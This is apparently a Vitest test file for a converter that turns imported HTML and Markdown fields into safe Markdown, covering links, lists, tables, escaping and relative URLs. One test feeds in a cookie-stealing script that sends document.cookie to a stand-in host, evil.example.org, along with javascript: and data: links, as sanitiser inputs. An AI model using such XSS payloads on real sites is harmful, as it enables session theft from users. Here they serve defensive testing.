import {describe, expect, it} from 'vitest';
import {convertText, toMarkdown, toPlainText} from '../../../src/compute/import/html';
import {parseDefinition} from '../../../src/compute/definitions/parse';
import {definitionToHtml} from '../../../src/compute/definitions/html';

const markdown = (source: string, options = {}) => toMarkdown(convertText(source, options).tree);

describe('convertText: HTML and Markdown from imported fields become safe Markdown', () => {
  it('turns links, emphasis and line breaks into Markdown', () => {
    expect(
      markdown('The <b>change</b> in ARR, see the <a href="https://example.org/glossary#arr" title="Glossary">glossary</a>.<br>Monthly.'),
    ).toBe('The **change** in ARR, see the [glossary](https://example.org/glossary#arr "Glossary").\\\nMonthly.');
  });

  it('turns HTML lists and tables into Markdown lists and tables', () => {
    const html =
      '<p>Counted:</p>\n<ul>\n  <li>offers <em>accepted</em></li>\n  <li>start dates</li>\n</ul>\n<table><tr><th>stage</th><th>age</th></tr><tr><td>S1</td><td>30</td></tr></table>';
    expect(markdown(html)).toBe(
      ['Counted:', '', '- offers _accepted_', '- start dates', '', '| stage | age |', '| ----- | --- |', '| S1    | 30  |'].join('\n'),
    );
  });

  it('keeps Markdown as Markdown, HTML mixed in or not', () => {
    expect(markdown('Plain [link](https://example.org) and **bold**.\n\n- one\n- two')).toBe(
      'Plain [link](https://example.org) and **bold**.\n\n- one\n- two',
    );
    expect(markdown('Hired against the [plan](https://example.org/plan),<br>counted when <em>accepted</em>.')).toBe(
      'Hired against the [plan](https://example.org/plan),\\\ncounted when _accepted_.',
    );
  });

  it('drops scripts, iframes and embeds with their content, and reports them', () => {
    const converted = convertText(
      'Rate.<script>document.location = "https://evil.example.org/?c=" + document.cookie</script><iframe src="https://example.org/embed"></iframe><object data="x.swf"></object><embed src="y.swf"><script>again()</script>',
    );
    expect(toMarkdown(converted.tree)).toBe('Rate.');
    expect(converted.removed).toEqual(['<script>', '<iframe>', '<object>', '<embed>', '<script>']);
  });

  it('drops javascript: and data: links but keeps their text, in HTML and in Markdown', () => {
    const converted = convertText(
      '<a href="javascript:alert(1)" onclick="steal()">Details</a> and [more](javascript:void(0)) and ![chart](data:image/png;base64,xx)',
    );
    expect(toMarkdown(converted.tree)).toBe('Details and more and chart');
    expect(converted.removed).toEqual(['a javascript: link', 'an onclick attribute', 'a javascript: link', 'a data: link']);
  });

  it('unwraps unknown elements and drops styles and classes, keeping the text', () => {
    expect(markdown('<div class="x"><span style="color:red">Red</span> <font>text</font></div>')).toBe('Red text');
  });

  it('resolves relative links against the page they were on, or reports them', () => {
    const source = 'See <a href="/handbook/metrics/#rate">rate</a> and <a href="#mr-rate">above</a>.';
    const kept = convertText(source);
    expect(kept.relative).toEqual(['/handbook/metrics/#rate', '#mr-rate']);
    expect(markdown(source, {pageUrl: 'https://handbook.example.org/handbook/engineering/pi/'})).toBe(
      'See [rate](https://handbook.example.org/handbook/metrics/#rate) and [above](https://handbook.example.org/handbook/engineering/pi/#mr-rate).',
    );
  });

  it('reads a one-line field (a target) as text when it would be Markdown blocks', () => {
    expect(markdown('> 84%', {inline: true})).toBe('\\> 84%');
    expect(markdown('- 5%', {inline: true})).toBe('\\- 5%');
    expect(markdown('Above <b>90%</b>', {inline: true})).toBe('Above **90%**');
  });

  it('gives text whose Markdown renders back to the same words, never to HTML', () => {
    const source = 'a < b & c > d, 5 * 3 * 2, snake_case, <b>&lt;script&gt;</b>';
    const rendered = definitionToHtml(parseDefinition({id: 'x', title: 'X', permalink: '/x', definition: markdown(source), footnotes: {}}));
    expect(rendered).toBe('<p>a &#x3C; b &#x26; c > d, 5 * 3 * 2, snake_case, <strong>&#x3C;script></strong></p>');
  });

  it('gives plain text for reasons, links kept as their address', () => {
    const {tree} = convertText('S2 backlog grew by <strong>20%</strong>.<br>See the <a href="https://example.org/f">forecast</a>.', {
      inline: true,
    });
    expect(toPlainText(tree)).toBe('S2 backlog grew by 20%. See the forecast (https://example.org/f).');
  });
});
